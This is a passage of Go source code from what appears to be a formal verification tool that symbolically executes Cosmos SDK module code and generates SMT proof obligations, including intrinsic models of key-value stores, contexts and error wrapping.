	loopsDone  []int           // ordinals of the (top-level function's) loops this path left through the header's exit edge
	sites      map[string]bool // safety sites (label@position) evaluated on this path (immutable map, replaced on change)
	panics     string          // non-empty: path ended in panic (reason)
	trace      []string
}

func newState() *State {
	return &State{cells: map[int]Val{}, worlds: map[int]*World{}}
}

func (s *State) clone() *State {
	n := &State{cells: make(map[int]Val, len(s.cells)), worlds: make(map[int]*World, len(s.worlds)), dead: s.dead, panics: s.panics, loopMark: s.loopMark, loopNames: s.loopNames, retInLoops: s.retInLoops, loopsDone: s.loopsDone, sites: s.sites}
	for k, v := range s.cells {
		n.cells[k] = v
	}
	n.pc = append([]string(nil), s.pc...)
	n.defs = append([]string(nil), s.defs...)
	n.calls = append([]CallRec(nil), s.calls...)
	n.trace = append([]string(nil), s.trace...)
	for k, w := range s.worlds {
		nw := &World{Parent: w.Parent, Comps: make(map[string]string, len(w.Comps)), Name: w.Name}
		for c, t := range w.Comps {
			nw.Comps[c] = t
		}
		nw.Ops = append([]WorldOp(nil), w.Ops...)
		n.worlds[k] = nw
	}
	return n
}

func (s *State) assume(t string) {
	if t == "true" {
		return
	}
	if t == "false" {
		s.dead = true
	}
	// trivial contradiction check
	nt := tNot(t)
	for _, p := range s.pc {
		if p == nt {
			s.dead = true
		}
		if p == t {
			return
		}
	}
	s.pc = append(s.pc, t)
}

// define records a definitional fact about freshly introduced terms.
func (s *State) define(t string) {
	if t == "true" {
		return
	}
	for _, d := range s.defs {
		if d == t {
			return
		}
	}
	s.defs = append(s.defs, t)
}

// ---------------------------------------------------------------------------

type Obligation struct {
	Fn     string
	Kind   string // post, pre@callsite, nopanic, inv-entry, inv-step, frame, lemma, cover, iface
	Label  string
	PC     []string
	Goal   string
	Detail string
	Pos    string
	Cover  bool // cover query: satisfiable expected
	// filled by discharge
	Status      string // unsat (discharged), sat, unknown, timeout
	Solver      string
	Seconds     float64
	Model       string
	File        string
	decls       *Decls
	extra       []string // extra assertions (key axioms)
	Bounded     bool
	Confirm     string
	Known       bool
	precomputed bool
	defs        []string
	env         *Env
	Site        string // nopanic: the safety site (label@position) the obligation guards
	Covered     string // nopanic under "nopanic dryrun": why a sat obligation is not a violation (dry-run cover)
	// dry-run cover bookkeeping (decided after discharge): auxiliary "this path can return nil" queries and the sites each passed
	dryStateFree bool
	dryCulprit   string
	dryPaths     []*Obligation
	dryFn        string
	nilPathSites map[string]bool
}

func (o *Obligation) Name() string { return fmt.Sprintf("%s/%s:%s", o.Fn, o.Kind, o.Label) }

// Env is the per-function verification environment.
type Env struct {
	P   *Program
	D   *Decls
	S   *sorter
	Cx  *Contracts
	cfg *PropConfig

	obls     []*Obligation
	cellN    int
	worldN   int
	iterN    int
	paths    int
	maxPaths int

	curName       string
	topFn         *ssa.Function
	nopanic       bool
	trusted       map[string]int
	dropped       map[string]int
	inlined       map[string]int
	havocked      map[string]int
	notes         map[string]int
	keyTerms      map[string][]Seg // key term -> segments, for pairwise axioms
	shapes        map[string]string
	bounded       bool
	err           error
	callSeq       int
	inlineDep     int
	specMode      int // >0 while evaluating a contract expression (pure evaluation)
	noContract    map[*ssa.Function]bool
	oldState      *State
	curPos        token.Pos
	unwrapped     map[string]Val
	splitInfo     map[string]*splitRec
	termFacts     map[string][]string
	nonNil        map[string]bool
	topVars       map[string]Val
	curFrame      *Frame
	callSiteHits  map[string]int
	clauseErrs    []string
	maybeNilIface map[string]bool
	applying      map[*Contract]bool
}

func newEnv(p *Program, cx *Contracts, cfg *PropConfig) *Env {
	d := newDecls()
	return &Env{P: p, D: d, S: newSorter(d), Cx: cx, cfg: cfg, maxPaths: 20000,
		trusted: map[string]int{}, dropped: map[string]int{}, inlined: map[string]int{}, havocked: map[string]int{}, notes: map[string]int{},
		splitInfo: map[string]*splitRec{}, termFacts: map[string][]string{}, nonNil: map[string]bool{}, maybeNilIface: map[string]bool{}, applying: map[*Contract]bool{}, callSiteHits: map[string]int{}, keyTerms: map[string][]Seg{}, shapes: map[string]string{}, noContract: map[*ssa.Function]bool{}}
}

func (e *Env) fail(format string, a ...interface{}) {
	if e.err == nil {
		e.err = fmt.Errorf("%s [near %s]", fmt.Sprintf(format, a...), e.pos(e.curPos))
	}
}

func (e *Env) pos(p token.Pos) string {
	if !p.IsValid() {
		return ""
	}
	ps := e.P.Prog.Fset.Position(p)
	f := strings.TrimPrefix(ps.Filename, repoDir()+"/")
	return fmt.Sprintf("%s:%d", f, ps.Line)
}

func (e *Env) newCell(st *State, v Val) int {
	e.cellN++
	st.cells[e.cellN] = v
	return e.cellN
}

func (e *Env) newRootWorld(st *State, name string) int {
	e.worldN++
	st.worlds[e.worldN] = &World{Parent: -1, Comps: map[string]string{}, Name: name}
	return e.worldN
}

func (e *Env) compSort(comp string) string {
	if e.cfg != nil {
		if s, ok := e.cfg.CompSorts[comp]; ok {
			return s
		}
	}
	switch comp {
	case "bank":
		// balances: addr -> denom -> amount ; supply kept as a separate component "supply"
		return "(Array Str (Array Str Int))"
	case "supply":
		return "(Array Str Int)"
	}
	if strings.HasPrefix(comp, "kv:") || isKVComp(comp) {
		return sKV
	}
	s := "Opaque_" + smtSym(comp)
	e.D.declSort(s)
	return s
}

var kvComps = map[string]bool{"pstore": true, "xibc": true, "aggregate": true, "rvesting": true, "params": true}

func isKVComp(c string) bool { return kvComps[c] }

// readComp returns the current term of component comp in world w.
func (e *Env) readComp(st *State, w int, comp string) string {
	W := st.worlds[w]
	if W == nil {
		e.fail("unknown world %d", w)
		return "true"
	}
	if W.Parent < 0 {
		if t, ok := W.Comps[comp]; ok {
			return t
		}
		t := e.D.namedConst(fmt.Sprintf("w%d_%s", w, comp), e.compSort(comp))
		W.Comps[comp] = t
		return t
	}
	t := e.readComp(st, W.Parent, comp)
	for _, op := range W.Ops {
		if op.Comp == comp {
			t = op.F(t)
		}
	}
	return t
}

// applyOp applies a transformation to component comp of world w.
func (e *Env) applyOp(st *State, w int, op WorldOp) {
	W := st.worlds[w]
	if W.Parent < 0 {
		cur := e.readComp(st, w, op.Comp)
		W.Comps[op.Comp] = op.F(cur)
		return
	}
	W.Ops = append(W.Ops, op)
}

func (e *Env) allComps() []string {
	m := map[string]bool{"xibc": true, "aggregate": true, "rvesting": true, "pstore": true, "bank": true, "supply": true, "bankmeta": true, "evm": true, "params": true, "auth": true, "staking": true, "gov": true, "other": true, "events": true}
	if e.cfg != nil {
		for c := range e.cfg.CompSorts {
			m[c] = true
		}
	}
	var out []string
	for c := range m {
		out = append(out, c)
	}
	sort.Strings(out)
	return out
}

func (e *Env) havocComp(st *State, w int, comp string, why string) {
	fresh := e.D.fresh("havoc_"+comp, e.compSort(comp))
	e.applyOp(st, w, WorldOp{Comp: comp, F: func(string) string { return fresh }, Desc: "havoc " + why})
}

// havocStore havocs the keys below the store view's prefix; every other key keeps its value.
func (e *Env) havocStore(st *State, s *StoreRef, why string) {
	if len(s.Prefix) == 0 {
		e.havocComp(st, s.World, s.Comp, why)
		return
	}
	e.D.declFun("hasprefix", "(declare-fun hasprefix (Str Str) Bool)")
	pfx := e.segsTerm(s.Prefix)
	fresh := e.D.fresh("havoc_"+s.Comp, e.compSort(s.Comp))
	e.D.n++
	kv := fmt.Sprintf("k!q%d", e.D.n)
	var frames []string
	e.applyOp(st, s.World, WorldOp{Comp: s.Comp, F: func(old string) string {
		frames = append(frames, fmt.Sprintf("(forall ((%s Str)) (! (=> (not (hasprefix %s %s)) (= (select %s %s) (select %s %s))) :pattern ((select %s %s))))", kv, kv, pfx, fresh, kv, old, kv, fresh, kv))
		return fresh
	}, Desc: "havoc below prefix " + why})
	// the op runs immediately on root worlds; on cache worlds it runs at read time, so force a read now
	e.readComp(st, s.World, s.Comp)
	for _, f := range frames {
		st.define(f)
	}
}

// havocWorld havocs all components of a world (unknown callee with a ctx argument).
func (e *Env) havocWorld(st *State, w int, why string) {
	for _, c := range e.allComps() {
		e.havocComp(st, w, c, why)
	}
}

// writeBack replays the child world's operations onto its parent and clears them.
func (e *Env) writeBack(st *State, child int) {
	W := st.worlds[child]
	if W == nil || W.Parent < 0 {
		return
	}
	ops := W.Ops
	W.Ops = nil
	for _, op := range ops {
		e.applyOp(st, W.Parent, op)
	}
}

func (e *Env) newChildWorld(st *State, parent int) int {
	e.worldN++
	st.worlds[e.worldN] = &World{Parent: parent, Comps: map[string]string{}, Name: fmt.Sprintf("cache(%d)", parent)}
	return e.worldN
}

// snapshotWorldTerms: terms of all components of world w that have been touched in either state.
func (e *Env) worldComps(st *State, w int) map[string]string {
	out := map[string]string{}
	for _, c := range e.allComps() {
		out[c] = e.readComp(st, w, c)
	}
	return out
}

// ---------------------------------------------------------------------------
// obligations

func (e *Env) oblige(st *State, kind, label, goal, detail string, pos token.Pos) {
	if st.dead {
		return
	}
	if goal == "true" {
		// still record as trivially discharged for counting
	}
	goal = e.skolemize(goal)
	o := &Obligation{Fn: e.curName, Kind: kind, Label: label, PC: append([]string(nil), st.pc...), Goal: goal, Detail: detail, Pos: e.pos(pos), decls: e.D, Bounded: e.bounded, env: e}
	o.defs = append([]string(nil), st.defs...)
	if kind == "nopanic" {
		// lengths of slices, strings and byte slices are Go ints far below 2^40 (memory): stated for every length
		// term the obligation mentions, so that index / bounds arithmetic does not "wrap" at 2^64
		seen := map[string]bool{}
		for _, txt := range append([]string{goal}, st.pc...) {
			for _, lt := range lengthTerms(txt) {
				if !seen[lt] && !strings.Contains(lt, "!q") {
					seen[lt] = true
					o.extra = append(o.extra, tApp("bvult", lt, bvLit(1<<40, 64)))
				}
			}
		}
	}
	e.obls = append(e.obls, o)
}

// lengthTerms returns the (slen64 t) and (len_Slice_X t) subterms of an SMT term.
func lengthTerms(s string) []string {
	var out []string
	for i := 0; i < len(s); i++ {
		if s[i] != '(' {
			continue
		}
		if !(strings.HasPrefix(s[i:], "(slen64 ") || strings.HasPrefix(s[i:], "(len_Slice_")) {
			continue
		}
		d := 0
		for j := i; j < len(s); j++ {
			if s[j] == '(' {
				d++
			} else if s[j] == ')' {
				d--
				if d == 0 {
					out = append(out, s[i:j+1])
					break
				}
			}
		}
	}
	return out
}

func typeKey(t types.Type) string { return t.String() }

var _ = ssa.NewProgram
