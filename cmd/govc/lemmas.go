package main

import (
	"fmt"
	"strings"

	"golang.org/x/tools/go/ssa"
)

// Lemma layer (DESIGN.md section 2.10).
//
// A lemma is a ghost Go function (file zz_verif_lemmas.go, build tag verif) whose body is a sequence of calls and
// whose postcondition is a sentence of the property; it is verified like any other function, its callees being
// represented by their contracts only.  "Any other operations in between" is a call of a trusted ghost function
// whose contract is a transition invariant.  That contract is justified by a RefineRule: for every function under
// contract (in the property's function list) that may modify one of the named components, the obligation
//
//	requires(f) /\ frame(f) /\ ensures(f)  ==>  ensures(ghost)
//
// is generated over the contract text of f only (kind "refines") - f's ensures are themselves proved against f's
// body.  Functions that are exempt (store accessors reachable only from such functions) are named one by one and
// closed by `callers` inventory rules of the same property.  The ghost's clauses are evaluated in f's contract
// environment (parameters and lets), so they may only mention `ctx`, predicates and built-ins.
type RefineRule struct {
	Ghost        string   `json:"ghost"`         // "<pkg rel>.<key>" of the trusted ghost function
	WhenModifies []string `json:"when_modifies"` // a contract whose `modifies` names one of these components is an operation
	Exempt       []string `json:"exempt"`        // "<pkg rel>.<key>" of functions that need not refine the ghost
	Reason       string   `json:"reason"`
}

func runLemmas(p *Program, cx *Contracts, cfg *PropConfig) ([]*Obligation, []string) {
	var out []*Obligation
	var errs []string
	byKey := map[string]*Contract{}
	for _, ct := range cx.all {
		byKey[shortPkg(ct.PkgPath)+"."+ct.Key] = ct
	}
	wexpr, _ := parseSpecExpr("world(ctx)")
	worldAll := Clause{Text: "world(ctx)", Expr: wexpr}
	for _, r := range cfg.Refines {
		g := byKey[r.Ghost]
		if g == nil {
			errs = append(errs, "refinement rule: no contract for ghost "+r.Ghost)
			continue
		}
		if !g.Trusted || len(g.Ensures) == 0 {
			errs = append(errs, "refinement rule: "+r.Ghost+" must be a trusted function with at least one ensures clause")
			continue
		}
		exempt := map[string]bool{r.Ghost: true}
		for _, e := range r.Exempt {
			exempt[e] = true
		}
		nOps := 0
		for _, fkey := range cfg.Functions {
			ct := byKey[fkey]
			if ct == nil || ct.Fn == nil || ct.Trusted || exempt[fkey] || strings.Contains(fkey, ".lemma") {
				continue
			}
			touches := false
			for _, m := range ct.Modifies {
				for _, c := range r.WhenModifies {
					if strings.HasPrefix(strings.TrimSpace(m.Text), c+"(") {
						touches = true
					}
				}
			}
			if !touches {
				continue
			}
			nOps++
			syn := &Contract{Key: ct.Key, PkgPath: ct.PkgPath, Fn: ct.Fn, Requires: ct.Requires, Ensures: g.Ensures, Modifies: []Clause{worldAll},
				Lets: ct.Lets, LetOrder: ct.LetOrder, Invariants: map[int][]Clause{}, Continues: map[int][]Clause{}, Unroll: map[int]int{}, File: ct.File, viaContract: ct}
			fr := verifyFunc(p, cx, cfg, syn)
			if fr.Err != nil {
				errs = append(errs, fmt.Sprintf("refinement of %s by %s: %v", lastKey(r.Ghost), fkey, fr.Err))
				continue
			}
			for _, ce := range fr.ClauseErrs {
				errs = append(errs, fmt.Sprintf("refinement of %s by %s: clause not evaluable: %s", lastKey(r.Ghost), fkey, ce))
			}
			for _, o := range fr.Obls {
				if o.Kind != "post" {
					continue // the callee's own preconditions are assumed here; covers of the synthetic run carry no information
				}
				o.env = fr.Env
				o.Kind = "refines"
				o.Label = r.Ghost[strings.LastIndex(r.Ghost, ".")+1:] + ":" + o.Label
				o.Detail = "the contract of " + fkey + " implies the clause of the ghost transition " + r.Ghost + ": " + o.Detail
				out = append(out, o)
			}
		}
		if nOps == 0 {
			errs = append(errs, "refinement rule for "+r.Ghost+" matched no operation at all (vacuous)")
		}
	}
	return out, errs
}

// closureMayWrite reports, per free variable of a closure, whether the closure's body (or a closure it creates) can
// change the captured variable: a store through it (directly or through a field / element address derived from it),
// or the variable escaping into a call or another closure.  Captured variables that are only read keep their value
// when the closure is handed to a callee that is represented by its contract.
func closureMayWrite(fn *ssa.Function) []bool {
	out := make([]bool, len(fn.FreeVars))
	idx := map[ssa.Value]int{}
	for i, fv := range fn.FreeVars {
		idx[fv] = i
	}
	root := func(v ssa.Value) (int, bool) {
		for d := 0; d < 8; d++ {
			if i, ok := idx[v]; ok {
				return i, true
			}
			switch x := v.(type) {
			case *ssa.FieldAddr:
				v = x.X
			case *ssa.IndexAddr:
				v = x.X
			default:
				return 0, false
			}
		}
		return 0, false
	}
	for _, b := range fn.Blocks {
		for _, ins := range b.Instrs {
			switch x := ins.(type) {
			case *ssa.Store:
				if i, ok := root(x.Addr); ok {
					out[i] = true
				}
			case *ssa.MapUpdate:
				if i, ok := root(x.Map); ok {
					out[i] = true
				}
			case *ssa.MakeClosure:
				for _, bnd := range x.Bindings {
					if i, ok := root(bnd); ok {
						inner := closureMayWrite(x.Fn.(*ssa.Function))
						for j, b2 := range x.Bindings {
							if b2 == bnd && j < len(inner) && inner[j] {
								out[i] = true
							}
						}
					}
				}
			case ssa.CallInstruction:
				for _, a := range x.Common().Args {
					if i, ok := root(a); ok {
						out[i] = true // the address of the captured variable is handed on
					}
				}
			}
		}
	}
	return out
}
