package main

import (
	"fmt"
	"go/token"
	"go/types"
	"strconv"
	"strings"

	"golang.org/x/tools/go/ssa"
)

type intrinsic func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out
type invokeIntrinsic func(e *Env, st *State, recv Val, args []Val, rt types.Type, c *ssa.CallCommon) []Out

var intrinsicsByName = map[string]intrinsic{}
var intrinsicsInvoke = map[string]invokeIntrinsic{}

const sdkCtx = "(github.com/cosmos/cosmos-sdk/types.Context)."
const sdkErrs = "github.com/cosmos/cosmos-sdk/types/errors."

var errType = types.Universe.Lookup("error").Type()
var bytesType = types.NewSlice(types.Typ[types.Uint8])

func one(st *State, v Val) []Out { return []Out{{st: st, res: v}} }

func boolVal(t string) Val { return termVal(types.Typ[types.Bool], sBool, t) }

// storeCompOf maps a store-key term to a world component.
func (e *Env) storeCompOf(keyTerm string) string {
	if e.cfg != nil {
		for frag, comp := range e.cfg.StoreKeys {
			if strings.Contains(keyTerm, frag) {
				return comp
			}
		}
	}
	switch {
	case strings.Contains(keyTerm, "packet_keeper"), strings.Contains(keyTerm, "client_keeper"), strings.Contains(keyTerm, "xibc_keeper"):
		return "xibc"
	case strings.Contains(keyTerm, "aggregate_keeper"):
		return "aggregate"
	case strings.Contains(keyTerm, "rvesting_keeper"):
		return "rvesting"
	}
	e.notes["store key of unknown module mapped to component 'other': "+trunc(keyTerm, 60)]++
	return "other"
}

func (e *Env) newErr(st *State, name string) Val {
	t := e.D.fresh("err_"+name, sIface)
	st.define(tNot(tEq(t, "nilI")))
	e.nonNil[t] = true
	return termVal(errType, sIface, t)
}

func (e *Env) rootOf(st *State, w int) int {
	for st.worlds[w] != nil && st.worlds[w].Parent >= 0 {
		w = st.worlds[w].Parent
	}
	return w
}

func (e *Env) blockTime(st *State, ctx Val) Val {
	e.D.declSort("Time")
	r := e.rootOf(st, ctx.World)
	tt := lookupNamed(e, "time", "Time")
	return Val{K: kTerm, Typ: tt, Sort: "Time", T: e.D.namedConst(fmt.Sprintf("blocktime_w%d", r), "Time")}
}

func lookupNamed(e *Env, pkg, name string) types.Type {
	for _, p := range e.P.Pkgs {
		var found types.Type
		var walk func(tp *types.Package, d int)
		seen := map[string]bool{}
		walk = func(tp *types.Package, d int) {
			if found != nil || seen[tp.Path()] || d > 8 {
				return
			}
			seen[tp.Path()] = true
			if tp.Path() == pkg {
				if o := tp.Scope().Lookup(name); o != nil {
					found = o.Type()
				}
				return
			}
			for _, i := range tp.Imports() {
				walk(i, d+1)
			}
		}
		walk(p.Types, 0)
		if found != nil {
			return found
		}
	}
	return nil
}

func (e *Env) kvKey(st *State, s *StoreRef, key Val) (string, []Seg) {
	segs := concatSegs(s.Prefix, e.byteSegs(st, key))
	return e.segsTerm(segs), segs
}

func init() {
	// ---- sdk.Context ----
	intrinsicsByName[sdkCtx+"KVStore"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		e.trusted["sdk.Context.KVStore: the multistore hands out the module's store for its key (finite map Str->Str)"]++
		comp := e.storeCompOf(e.term(st, args[1]))
		return one(st, Val{K: kStore, Typ: rt, Store: &StoreRef{World: args[0].World, Comp: comp, Prefix: []Seg{}}})
	}
	intrinsicsByName[sdkCtx+"CacheContext"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		e.trusted["sdk.Context.CacheContext: cachekv overlay; write() applies the child's writes to the parent"]++
		w := e.newChildWorld(st, args[0].World)
		child := Val{K: kCtx, Typ: args[0].Typ, World: w, Sort: "Ctx", T: e.D.fresh("cctx", e.sortOfT(args[0].Typ))}
		write := Val{K: kClosure, World: w}
		return one(st, Val{K: kTuple, Elems: []Val{child, write}})
	}
	intrinsicsByName[sdkCtx+"BlockTime"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		return one(st, e.blockTime(st, args[0]))
	}
	intrinsicsByName[sdkCtx+"BlockHeight"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		r := e.rootOf(st, args[0].World)
		return one(st, e.wrapTerm(rt, e.D.namedConst(fmt.Sprintf("blockheight_w%d", r), bvSort(64))))
	}
	intrinsicsByName[sdkCtx+"ChainID"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		r := e.rootOf(st, args[0].World)
		return one(st, e.wrapTerm(rt, e.D.namedConst(fmt.Sprintf("chainid_w%d", r), sStr)))
	}
	for _, n := range []string{"Logger", "EventManager", "BlockHeader", "GasMeter", "BlockGasMeter", "TxBytes", "IsCheckTx", "IsReCheckTx", "Context", "HeaderHash", "ConsensusParams", "MinGasPrices", "VoteInfos"} {
		n := n
		intrinsicsByName[sdkCtx+n] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
			return one(st, e.resultHavoc(st, rt, "ctx_"+n))
		}
	}
	for _, n := range []string{"WithEventManager", "WithGasMeter", "WithBlockGasMeter", "WithValue", "WithContext", "WithIsCheckTx", "WithMinGasPrices", "WithTxBytes"} {
		intrinsicsByName[sdkCtx+n] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
			return one(st, args[0]) // same world
		}
	}
	intrinsicsByName["github.com/cosmos/cosmos-sdk/types.UnwrapSDKContext"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		if args[0].K == kIface && args[0].Inner != nil && args[0].Inner.K == kCtx {
			return one(st, *args[0].Inner)
		}
		t := e.term(st, args[0])
		if v, ok := e.unwrapped[t]; ok {
			return one(st, v)
		}
		v := e.symbolic(st, rt, "sdkctx")
		if e.unwrapped == nil {
			e.unwrapped = map[string]Val{}
		}
		e.unwrapped[t] = v
		return one(st, v)
	}
	intrinsicsByName["github.com/cosmos/cosmos-sdk/types.WrapSDKContext"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		inner := args[0]
		return one(st, Val{K: kIface, Typ: rt, Inner: &inner, Sort: sIface})
	}

	// ---- KVStore ----
	intrinsicsInvoke["Get"] = func(e *Env, st *State, recv Val, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		if recv.K != kStore {
			return e.havocCall(st, "Get on non-store", args, rt)
		}
		k, _ := e.kvKey(st, recv.Store, args[0])
		m := e.readComp(st, recv.Store.World, recv.Store.Comp)
		return one(st, e.wrapTerm(bytesType, fmt.Sprintf("(select %s %s)", m, k)))
	}
	intrinsicsInvoke["Has"] = func(e *Env, st *State, recv Val, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		if recv.K != kStore {
			return e.havocCall(st, "Has on non-store", args, rt)
		}
		k, _ := e.kvKey(st, recv.Store, args[0])
		m := e.readComp(st, recv.Store.World, recv.Store.Comp)
		return one(st, boolVal(tNot(tEq(fmt.Sprintf("(select %s %s)", m, k), "nilStr"))))
	}
	intrinsicsInvoke["Set"] = func(e *Env, st *State, recv Val, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		if recv.K != kStore {
			return e.havocCall(st, "Set on non-store", args, rt)
		}
		k, _ := e.kvKey(st, recv.Store, args[0])
		v := e.term(st, args[1])
		if args[1].K == kArr {
			v = e.arrTerm(st, args[1])
		}
		// SDK: a nil value panics (AssertValidValue)
		e.safety(st, tNot(tEq(v, "nilStr")), "store-set-nil-value", c.Pos())
		e.applyOp(st, recv.Store.World, WorldOp{Comp: recv.Store.Comp, F: func(m string) string { return fmt.Sprintf("(store %s %s %s)", m, k, v) }, Desc: "set " + k})
		return one(st, Val{K: kUnit})
	}
	intrinsicsInvoke["Delete"] = func(e *Env, st *State, recv Val, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		if recv.K != kStore {
			return e.havocCall(st, "Delete on non-store", args, rt)
		}
		k, _ := e.kvKey(st, recv.Store, args[0])
		e.applyOp(st, recv.Store.World, WorldOp{Comp: recv.Store.Comp, F: func(m string) string { return fmt.Sprintf("(store %s %s nilStr)", m, k) }, Desc: "delete " + k})
		return one(st, Val{K: kUnit})
	}
	intrinsicsByName["github.com/cosmos/cosmos-sdk/store/prefix.NewStore"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		s := args[0]
		if s.K == kIface {
			s = *s.Inner
		}
		if s.K != kStore {
			return e.havocCall(st, "prefix.NewStore on unknown store", args, rt)
		}
		e.trusted["prefix.NewStore: view with get(view,k) = get(parent, prefix||k)"]++
		ns := &StoreRef{World: s.Store.World, Comp: s.Store.Comp, Prefix: concatSegs(s.Store.Prefix, e.byteSegs(st, args[1]))}
		return one(st, Val{K: kStore, Typ: rt, Store: ns})
	}
	iter := func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		s := args[0]
		if s.K == kIface {
			s = *s.Inner
		}
		if s.K != kStore {
			return e.havocCall(st, "iterator on unknown store", args, rt)
		}
		e.trusted["KVStorePrefixIterator: enumerates exactly the keys having the prefix, each once"]++
		e.iterN++
		it := &IterRef{ID: e.iterN, Store: s.Store, Prefix: concatSegs(s.Store.Prefix, e.byteSegs(st, args[1]))}
		e.iterHavoc(st, it)
		return one(st, Val{K: kIter, Typ: rt, Iter: it})
	}
	intrinsicsByName["github.com/cosmos/cosmos-sdk/types.KVStorePrefixIterator"] = iter
	intrinsicsByName["github.com/cosmos/cosmos-sdk/types.KVStoreReversePrefixIterator"] = iter
	intrinsicsInvoke["Valid"] = func(e *Env, st *State, recv Val, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		return one(st, boolVal(recv.Iter.Valid))
	}
	intrinsicsInvoke["Key"] = func(e *Env, st *State, recv Val, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		return one(st, Val{K: kTerm, Typ: bytesType, Sort: sStr, T: recv.Iter.Key, Segs: recv.Iter.KeySegs})
	}
	intrinsicsInvoke["Value"] = func(e *Env, st *State, recv Val, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		return one(st, e.wrapTerm(bytesType, recv.Iter.Val))
	}
	intrinsicsInvoke["Next"] = func(e *Env, st *State, recv Val, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		// position advances; the new position is havocked at the loop header
		return one(st, Val{K: kUnit})
	}
	intrinsicsInvoke["Close"] = func(e *Env, st *State, recv Val, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		return one(st, e.resultHavoc(st, rt, "close"))
	}
	intrinsicsInvoke["Error"] = func(e *Env, st *State, recv Val, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		return one(st, termVal(errType, sIface, "nilI"))
	}

	// ---- errors ----
	wrap := func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		// nil iff the wrapped error is nil (SDK source)
		a := e.term(st, args[0])
		if a == "nilI" {
			return one(st, termVal(errType, sIface, "nilI"))
		}
		if e.nonNil[a] {
			return one(st, e.newErr(st, "wrap"))
		}
		r := e.D.fresh("wrapped", sIface)
		st.define(tEq(tEq(r, "nilI"), tEq(a, "nilI")))
		return one(st, termVal(errType, sIface, r))
	}
	intrinsicsByName[sdkErrs+"Wrap"] = wrap
	intrinsicsByName[sdkErrs+"Wrapf"] = wrap
	intrinsicsByName["(*"+sdkErrs+"Error).Wrap"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		return one(st, e.newErr(st, "wrap"))
	}
	intrinsicsByName["(*"+sdkErrs+"Error).Wrapf"] = intrinsicsByName["(*"+sdkErrs+"Error).Wrap"]
	mkErr := func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		return one(st, e.newErr(st, "new"))
	}
	intrinsicsByName["errors.New"] = mkErr
	intrinsicsByName["fmt.Errorf"] = mkErr
	intrinsicsByName["github.com/pkg/errors.New"] = mkErr
	intrinsicsByName["github.com/pkg/errors.Errorf"] = mkErr
	intrinsicsByName["github.com/pkg/errors.Wrap"] = wrap
	intrinsicsByName["github.com/pkg/errors.Wrapf"] = wrap
	intrinsicsByName["(*"+sdkErrs+"Error).Error"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		return one(st, e.wrapTerm(types.Typ[types.String], e.D.fresh("errstr", sStr)))
	}
	intrinsicsByName["(error).Error"] = intrinsicsByName["(*"+sdkErrs+"Error).Error"]

	// ---- fmt / strconv / bytes / strings ----
	intrinsicsByName["fmt.Sprintf"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		return one(st, e.sprintf(st, args))
	}
	intrinsicsByName["fmt.Sprint"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		return one(st, e.wrapTerm(types.Typ[types.String], e.D.fresh("sprint", sStr)))
	}
	intrinsicsByName["strconv.FormatUint"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		if b, _, ok := bvLitVal(e.term(st, args[1])); ok && b == 10 {
			segs := []Seg{{K: "dec", T: e.term(st, args[0]), W: 64}}
			return one(st, Val{K: kTerm, Typ: types.Typ[types.String], Sort: sStr, T: e.segsTerm(segs), Segs: segs})
		}
		return e.pureCall(st, "strconv.FormatUint", args, rt)
	}
	intrinsicsByName["strconv.ParseUint"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		u64 := types.Typ[types.Uint64]
		if len(args[0].Segs) == 1 && args[0].Segs[0].K == "dec" && !args[0].Segs[0].Sgn {
			if b, _, ok := bvLitVal(e.term(st, args[1])); ok && b == 10 {
				s := args[0].Segs[0]
				t := s.T
				if s.W < 64 {
					t = fmt.Sprintf("((_ zero_extend %d) %s)", 64-s.W, t)
				}
				return one(st, Val{K: kTuple, Elems: []Val{termVal(u64, bvSort(64), t), termVal(errType, sIface, "nilI")}})
			}
		}
		at := e.term(st, args[0])
		v := e.D.uf("parseuint", []string{sStr}, bvSort(64), at)
		ok := e.D.uf("parseuint_ok", []string{sStr}, sBool, at)
		er := e.D.fresh("perr", sIface)
		st.define(tEq(tEq(er, "nilI"), ok))
		return one(st, Val{K: kTuple, Elems: []Val{termVal(u64, bvSort(64), v), termVal(errType, sIface, er)}})
	}
	intrinsicsByName["bytes.Equal"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		a, b := e.term(st, args[0]), e.term(st, args[1])
		// equal contents; nil and empty are both "length zero" and equal each other
		if args[0].Segs != nil && args[1].Segs != nil {
			if f, ok := e.segsEqual(args[0].Segs, args[1].Segs, false); ok {
				return one(st, boolVal(f))
			}
		}
